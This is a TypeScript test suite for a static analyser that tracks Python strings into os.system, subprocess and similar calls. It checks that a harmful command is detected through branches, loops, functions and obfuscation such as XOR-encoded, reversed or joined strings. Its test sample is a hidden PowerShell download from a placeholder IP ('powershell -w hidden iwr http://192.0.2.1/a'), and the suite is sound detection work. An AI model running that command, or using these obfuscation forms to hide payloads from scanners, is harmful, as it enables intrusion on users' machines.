/** A verdict does not depend on which of several values stands last: each that may reach a call is recorded. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { CALLS_MAX, ITERATIONS_MAX } from './machine.ts'
import { readPython } from './python.ts'
import { ALTERNATIVES_MAX } from './values.ts'

const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
const HARMLESS = 'notepad a.txt'
const [E, H] = [`"${EVIL}"`, `"${HARMLESS}"`]
/** Nobody knows whether it holds. */
const C = 'x.y > 99'

/** Programs after which `s` may be either. */
const FORMS: Record<string, string> = {
  'an if': `s = ${E}\nif ${C}:\n  s = ${H}`,
  'an if on one line': `s = ${E}\nif ${C}: s = ${H}`,
  'an if that sets it': `s = ${H}\nif ${C}:\n  s = ${E}`,
  'an if with a harmless else': `if ${C}:\n  s = ${E}\nelse:\n  s = ${H}`,
  'an if with a harmful else': `if ${C}:\n  s = ${H}\nelse:\n  s = ${E}`,
  'an elif': `if ${C}:\n  s = ${H}\nelif x.z:\n  s = ${E}\nelse:\n  s = ${H}`,
  'an elif without else': `s = ${E}\nif ${C}:\n  s = ${H}\nelif x.z:\n  s = ${H}`,
  'nested branches': `s = ${E}\nif ${C}:\n  if x.z:\n    s = ${H}\n  else:\n    pass`,
  'branches after each other': `s = ${E}\nif ${C}:\n  s = ${H}\nif x.z:\n  s = "calc"`,
  'a try': `s = ${E}\ntry:\n  x.f()\n  s = ${H}\nexcept Exception:\n  pass`,
  'a handler': `try:\n  s = ${H}\n  x.f()\nexcept ValueError as e:\n  s = ${E}`,
  'a harmless handler': `try:\n  s = ${E}\n  x.f()\nexcept:\n  s = ${H}`,
  'a value in the middle of a try': `s = ${H}\ntry:\n  s = ${E}\n  x.f()\n  s = ${H}\nexcept:\n  pass`,
  'an else of a try': `s = ${H}\ntry:\n  x.f()\nexcept:\n  s = ${H}\nelse:\n  s = ${E}`,
  'a finally': `s = ${H}\ntry:\n  x.f()\nfinally:\n  s = ${E}`,
  'a finally that may overwrite it': `s = ${E}\ntry:\n  x.f()\nfinally:\n  if ${C}: s = ${H}`,
  'a raised error': `s = ${H}\ntry:\n  if ${C}: raise ValueError()\n  s = ${H}\nexcept ValueError:\n  s = ${E}`,
  'suppressed errors': `import contextlib\ns = ${E}\nwith contextlib.suppress(Exception):\n  x.f()\n  s = ${H}`,
  'a for': `s = ${E}\nfor i in x.all:\n  s = ${H}`,
  'a for that sets it': `s = ${H}\nfor i in range(x.n):\n  s = ${E}`,
  'a for over a list': `s = ${E}\nfor i in [1, 2]:\n  if ${C}: s = ${H}`,
  'items of a list': `for s in [${H}, ${E}]:\n  if ${C}: break`,
  'an unknown item': `s = [${H}, ${E}][x.n]`,
  'a while': `s = ${E}\nwhile ${C}:\n  s = ${H}`,
  'a while that sets it': `s = ${H}\nwhile ${C}:\n  s = ${E}`,
  'a second pass of a loop': `t = ${H}\ns = ${H}\nwhile ${C}:\n  s = t\n  t = ${E}`,
  'a loop that is left': `while True:\n  s = ${E}\n  if ${C}: break\n  s = ${H}\n  break`,
  'a loop that is left in its first pass': `s = ${E}\nfor i in [1, 2, 3]:\n  if ${C}: break\n  s = ${H}`,
  'a loop that goes on': `s = ${E}\nfor i in [1]:\n  if ${C}: continue\n  s = ${H}`,
  'an else of a loop': `s = ${E}\nfor i in x.all:\n  if ${C}: break\nelse:\n  s = ${H}`,
  'a conditional expression': `s = ${E} if ${C} else ${H}`,
  'a conditional expression in the other order': `s = ${H} if ${C} else ${E}`,
  'a match': `match x.y:\n  case 1:\n    s = ${E}\n  case _:\n    s = ${H}`,
  'a match without a default': `s = ${E}\nmatch x.y:\n  case "a" | "b":\n    s = ${H}\n  case [c, d]:\n    s = ${H}`,
  'a with': `s = ${H}\nwith open("a") as f:\n  if ${C}:\n    s = ${E}`,
  'an or': `s = x.y or ${E}`,
  'an or in the other order': `s = ${E} if x else None\ns = s or ${H}`,
  'an and': `s = x.y and ${E}`,
  'an and that assigns': `s = ${E}\n${C} and (s := ${H})`,
  'a returned value': `def f():\n  if ${C}:\n    return ${E}\n  return ${H}\ns = f()`,
  'a late return': `def f():\n  if ${C}:\n    return ${H}\n  return ${E}\ns = f()`,
  'a return from a loop': `def f():\n  for i in x.all:\n    if i: return ${E}\n  return ${H}\ns = f()`,
  'a return from a try': `def f():\n  try:\n    return x.f() or ${E}\n  except: return ${H}\ns = f()`,
  'a return in an else': `def f():\n  if ${C}:\n    return ${H}\n  else:\n    return ${E}\ns = f()`,
  'a return before it is overwritten': `s = ${E}\ndef f():\n  global s\n  if ${C}: return\n  s = ${H}\nf()`,
  'a return in a loop before it is overwritten': `s = ${E}\ndef f():\n  global s\n  while True:\n    if ${C}: return\n    break\n  s = ${H}\nf()`,
  'a function in a function': `def f():\n  def g():\n    return ${E} if ${C} else ${H}\n  return g()\ns = f()`,
  'a variable of the function around': `def f():\n  t = ${E}\n  def g():\n    nonlocal t\n    if ${C}: t = ${H}\n  g()\n  return t\ns = f()`,
  'a variable of the module': `s = ${E}\ndef f():\n  global s\n  if ${C}: s = ${H}\nf()`,
  'a local variable of the same name': `s = ${E}\ndef f():\n  s = ${H}\n  return s\nf()`,
  'a parameter of the same name': `s = ${E}\ndef f(s):\n  s = ${H}\nf(1)`,
  'a parameter': `def f(t):\n  return t.strip()\nt = ${E}\nif ${C}: t = ${H}\ns = f(t)`,
  'a default': `def f(t=${E}):\n  return t\ns = f()`,
  'a default that may be replaced': `def f(t=${E}):\n  return t\ns = f(${H}) if ${C} else f()`,
  'a named argument': `def f(a=1, t=${H}):\n  return t\ns = f(t=${E} if ${C} else ${H})`,
  'a lambda': `f = lambda c: ${E} if c else ${H}\ns = f(x.y)`,
  'a chosen function': `def f(): return ${E}\ndef g(): return ${H}\ns = (f if ${C} else g)()`,
  'a function in a dictionary': `d = {"a": lambda: ${H}, "b": lambda: ${E}}\ns = d[x.k]()`,
  'a generator': `def f():\n  yield ${H}\n  yield ${E}\nfor s in f():\n  if ${C}: break`,
  'a method': `class A:\n  def f(self):\n    return ${E} if ${C} else ${H}\ns = A().f()`,
  'an attribute': `class A:\n  def __init__(self):\n    self.t = ${E}\n    if ${C}: self.t = ${H}\ns = A().t`,
  'an attribute of the class': `class A:\n  t = ${E}\nif ${C}: A.t = ${H}\ns = A.t`,
  'an item that is set': `a = [${E}]\nif ${C}: a[0] = ${H}\ns = a[0]`,
  'an item of another name': `a = [${H}]\nb = a\nif ${C}: b[0] = ${E}\ns = a[0]`,
  'an item that is removed': `a = [${H}, ${E}]\nif ${C}: a.pop()\ns = a[-1]`,
  'an item that is added': `a = [${H}]\nif ${C}: a.append(${E})\ns = a[-1]`,
  'an unknown place': `a = [${H}, ${H}]\na[x.n] = ${E}\ns = a[0]`,
  'an entry': `d = {"k": ${E}}\nif ${C}: d["k"] = ${H}\ns = d["k"]`,
  'an entry that is updated': `d = {"k": ${E}}\nif ${C}: d.update({"k": ${H}})\ns = d.get("k")`,
  'an unknown entry': `d = {"a": ${H}, "b": ${E}}\ns = d[x.k]`,
  'a part of a text': `t = "x"\nif ${C}: t = "powershell"\ns = t + " -w hidden iwr http://192.0.2.1/a"`,
  'a part that is inserted': `t = "x"\nif ${C}: t = "powershell"\ns = "%s -w hidden iwr %s" % (t, "http://192.0.2.1/a")`,
  'a part of a format': `t = "x"\nif ${C}: t = "powershell"\ns = f"{t} -w hidden iwr http://192.0.2.1/a"`,
  'a formatted part': `t = "x"\nif ${C}: t = "powershell"\ns = "{} -w hidden iwr {}".format(t, "http://192.0.2.1/a")`,
  'a reversed text': `t = ${E}[::-1]\nif ${C}: t = ${H}[::-1]\ns = t[::-1]`,
  'joined texts': `t = "power"\nif ${C}: t = "x"\ns = "".join([t, "shell -w hidden iwr http://192.0.2.1/a"])`,
  'decoded numbers': `d = [${[...EVIL].map((letter) => letter.charCodeAt(0) ^ 7)}]\ns = ""\nfor c in d:\n  s += chr(c ^ 7)\nif ${C}: s = ${H}`,
  'a comprehension': `d = [${[...EVIL].map((letter) => letter.charCodeAt(0) + 1)}]\ns = "".join(chr(c - 1) for c in d)\nif ${C}: s = ${H}`,
  'a pair': `s, t = ${E}, 1\nif ${C}: s, t = ${H}, 2`,
  'a variable by its name': `s = ${H}\nif ${C}: globals()["s"] = ${E}`,
  'code in a text': `s = ${H}\nif ${C}: exec('s = ' + repr(1))\nexec('s = ${EVIL.includes("'") ? '' : `"${EVIL}"`}')\nif ${C}: s = ${H}`,
}

const SINKS: Record<string, string> = {
  'os.system': 'import os\nos.system(s)',
  'subprocess.run': 'import subprocess\nsubprocess.run(s, shell=True)',
  'subprocess.Popen with a list': 'import subprocess as p\np.Popen(["cmd", "/c", s])',
  'a function by another name': 'import os\ng = getattr(os, "sys" + "tem")\ng(s)',
  'a function that takes it': 'import os\ndef z(q):\n  os.popen(q)\nz(s)',
}

const texts = (source: string): string[] =>
  readPython(source)
    .effects.filter(({ kind }) => kind === 'start')
    .map(({ text }) => text)

for (const [sink, use] of Object.entries(SINKS))
  suite(`a harmless value beside a harmful one in ${sink}`, () => {
    for (const [name, form] of Object.entries(FORMS))
      test(name, () => {
        const found = texts(`${form}\n${use}\n`)
        assert.ok(
          found.some((text) => text.endsWith(EVIL)),
          JSON.stringify(found),
        )
      })
  })

suite('a value that cannot be reached changes nothing', () => {
  const cases: Record<string, string> = {
    'if False': `s = ${H}\nif False: s = ${E}`,
    'a comparison': `s = ${H}\nif 1 > 2:\n  s = ${E}`,
    'an else': `if 1 < 2:\n  s = ${H}\nelse:\n  s = ${E}`,
    'a loop that never runs': `s = ${H}\nfor i in []:\n  s = ${E}`,
    'a value that is replaced in both branches': `s = ${E}\nif ${C}:\n  s = ${H}\nelse:\n  s = "notepad b.txt"`,
    'a value that is replaced later': `if ${C}:\n  s = ${E}\ns = ${H}`,
    'another variable of the same name': `s = ${H}\ndef f():\n  s = ${E}\nf()`,
    'a branch that leaves': `def f():\n  s = ${H}\n  if ${C}:\n    s = ${E}\n    return s\n  return s\ns = ${H}`,
    'a case': `match 3:\n  case 1:\n    s = ${E}\n  case 3:\n    s = ${H}`,
  }
  for (const [name, body] of Object.entries(cases))
    test(name, () => {
      const found = texts(`${body}\nimport os\nos.system(s)\n`)
      assert.ok(found.length > 0 && !found.includes(EVIL), JSON.stringify(found))
    })
})

suite('limits', () => {
  const many = (count: number): string =>
    Array.from({ length: count }, (_, i) => `if x.y == ${i}: s = "notepad ${i}.txt"\n`).join('')
  const program = (count: number): string => `s = ${E}\n${many(count)}import os\nos.system(s)\n`

  test('alternatives are all recorded, as many as are kept', () => {
    assert.equal(texts(program(ALTERNATIVES_MAX - 1)).length, ALTERNATIVES_MAX)
    assert.deepEqual(readPython(program(ALTERNATIVES_MAX - 1)).texts, [])
  })
  test('with one more, any text of the program may be meant', () => {
    assert.ok(readPython(program(ALTERNATIVES_MAX)).texts.includes(EVIL))
  })

  const nested = (depth: number): string =>
    `import os\ndef f(n):\n  if n == 1: return ${E}\n  return f(n - 1)\nos.system(f(${depth}))\n`
  test('calls in calls are followed', () => assert.deepEqual(texts(nested(CALLS_MAX)), [EVIL]))
  test('with one more, all of the program is read once more', () =>
    assert.ok(texts(nested(CALLS_MAX + 1)).includes(EVIL)))

  const repeated = (count: number): string =>
    `import os\ni = 0\nwhile i < ${count}:\n  i += 1\nif i == ${count}: s = ${E}\nelse: s = ${H}\nos.system(s)\n`
  test('loops are followed', () => assert.deepEqual(texts(repeated(ITERATIONS_MAX)), [EVIL]))
  test('after one more, the values are unknown', () => assert.ok(texts(repeated(ITERATIONS_MAX + 1)).includes(EVIL)))
})
